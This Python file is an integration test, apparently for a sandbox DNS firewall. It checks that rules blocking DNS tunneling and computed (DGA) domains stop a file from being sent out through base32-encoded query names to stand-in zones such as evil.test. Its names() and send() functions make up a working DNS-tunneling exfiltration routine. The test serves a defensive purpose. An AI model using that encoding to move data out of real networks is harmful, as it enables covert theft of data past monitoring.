# SPDX-License-Identifier: GPL-2.0-or-later
"""A file leaves in the names of a permitted wildcard: how much of it arrives at the server that the sandbox's accomplice runs (dnsd.py, which
writes down every query), with rules that guard the wildcard and without.

box1 has a BLOCK rule for DNS_TUNNELING at HIGH and an ALERT rule at LOW before the rule that permits *.test; box2 has neither.
"""
import base64
import hashlib
import re

import lab
import labdaemon
import labprobe

CHUNK, CHUNKS = 100, 60  # bytes of the file in a name
FILE = b"".join(hashlib.sha512(bytes([i])).digest() for i in range(CHUNK * CHUNKS // 64 + 1))[:CHUNK * CHUNKS]
GUARDED = '''name = "guarded";
dns = (
  { name = "tunnels"; priority = 10; action = "BLOCK"; protection = "DNS_TUNNELING"; confidence = "HIGH"; response = "NXDOMAIN"; },
  { name = "computed"; priority = 11; action = "BLOCK"; protection = "DGA"; confidence = "HIGH"; },
  { name = "suspicious"; priority = 20; action = "ALERT"; protection = "DNS_TUNNELING"; confidence = "LOW"; },
  { name = "pages"; priority = 100; action = "ALLOW"; domains = [ "*.test" ]; ports = [ "tcp/443" ]; },
  { name = "others"; priority = 200; action = "ALLOW"; domains = [ "*" ]; ports = [ "tcp/443" ]; }
);
'''


def names(zone):
    for i in range(CHUNKS):
        text = base64.b32encode(FILE[CHUNK * i:CHUNK * (i + 1)]).decode().lower().rstrip("=")
        labels = [text[k:k + 55] for k in range(0, len(text), 55)]
        yield ".".join([f"n{i}"] + labels + [zone])


def arrived(odd, zone):
    """Bytes of the file in the names that the server was asked for."""
    got = set()
    for q in odd.queries():
        labels = q["name"].lower().split(".")
        if q["name"].lower().endswith("." + zone):
            text = "".join(labels[1:-len(zone.split("."))]).upper()
            got.add(base64.b32decode(text + "=" * (-len(text) % 8)))
    lab.check(all(chunk in FILE for chunk in got), "what arrives is of the file")
    return sum(map(len, got))


def send(net, box, zone, rrtype):
    return [labprobe.ask(net.ns[box], name, rrtype) for name in names(zone)]


def unguarded(net, odd):
    print("-- without a guard")
    send(net, "box2", "free.test", "TXT")
    lab.equal(arrived(odd, "free.test"), len(FILE), "bytes of the file that arrive")


def guarded(net, daemon, odd):
    print("-- with one")
    lab.equal(labprobe.ask(net.ns["box1"], "www.evil.test").rcode, "NOERROR", "an ordinary name of the zone")
    answers = send(net, "box1", "evil.test", "TXT")
    lab.equal(answers[-1].rcode, "NXDOMAIN", "the last chunk is answered by the rule's response")
    lab.equal(answers[-1].ede, 15, "with EDE Blocked")
    lab.check(0 < arrived(odd, "evil.test") <= 1000, f"{arrived(odd, 'evil.test')} of {len(FILE)} bytes arrive, at most 1,000")
    out = net.ns["box1"].run(["dig", "+tries=1", "unheard-of.evil.test", "A"], check=False).stdout
    lab.check(re.search(r"EDE: 15 .*dns-tunneling", out), "a new name of the zone says why")
    event = daemon.wait_event(kind="dns", action="block", reason="dns-tunneling", rule="tunnels")
    lab.check(event["file"].endswith("guarded.conf") and event["line"] == 3 and event["sandbox"] == "box1", "an event with rule, file and line")
    event = daemon.wait_event(kind="dns", action="alert", reason="dns-tunneling", rule="suspicious")
    lab.equal(event["line"], 5, "and before, alerts")


def matches(daemon):
    """Counters reach the gate with each sign of life."""
    found = re.search(r"protection_matches\W+(\d+)", daemon.cli("status", "--json").stdout)
    return int(found.group(1)) if found else 0


def others(net, daemon):
    print("-- what goes on")
    lab.equal(labprobe.ask(net.ns["box1"], "www.evil.test").rcode, "NOERROR", "the name that was used before")
    lab.check(labprobe.ask(net.ns["box1"], "deb.honest.test").records, "another zone")
    lab.check(labprobe.ask(net.ns["box2"], "unheard-of.evil.test").records, "the zone, for box2")
    daemon.cli("reload", check=True)
    lab.equal(labprobe.ask(net.ns["box1"], "unheard-of-2.evil.test").ede, 15, "a reload is no pardon")
    lab.wait_for("the counter of postern status to tell", lambda: matches(daemon) > CHUNKS / 2)


def computed(net, daemon):
    print("-- a computed domain")
    answer = labprobe.ask(net.ns["box1"], "xkqzvwpjtbrmhgfd.com")
    lab.equal((answer.records, answer.ede), ([], 15), "is blocked at first sight")
    daemon.wait_event(kind="dns", action="block", reason="dga", rule="computed", names=["xkqzvwpjtbrmhgfd.com"])
    lab.check(labprobe.ask(net.ns["box1"], "stackoverflow.com").records, "an ordinary one is not")


def main(net):
    odd = net.odd_dns()
    boxes = {"box1": ('interface = "pt-box1"', "guarded"), "box2": ('interface = "pt-box2"', "web")}
    conf = labdaemon.conf_text(boxes, upstreams=("10.0.0.3",))
    daemon = labdaemon.Postern(net, conf, {"guarded.conf": GUARDED, "web.conf": labdaemon.policy_text("web")}).start()
    unguarded(net, odd)
    guarded(net, daemon, odd)
    others(net, daemon)
    computed(net, daemon)
    lab.check("AddressSanitizer" not in daemon.log_text(), "no sanitizer report")


lab.test(main)
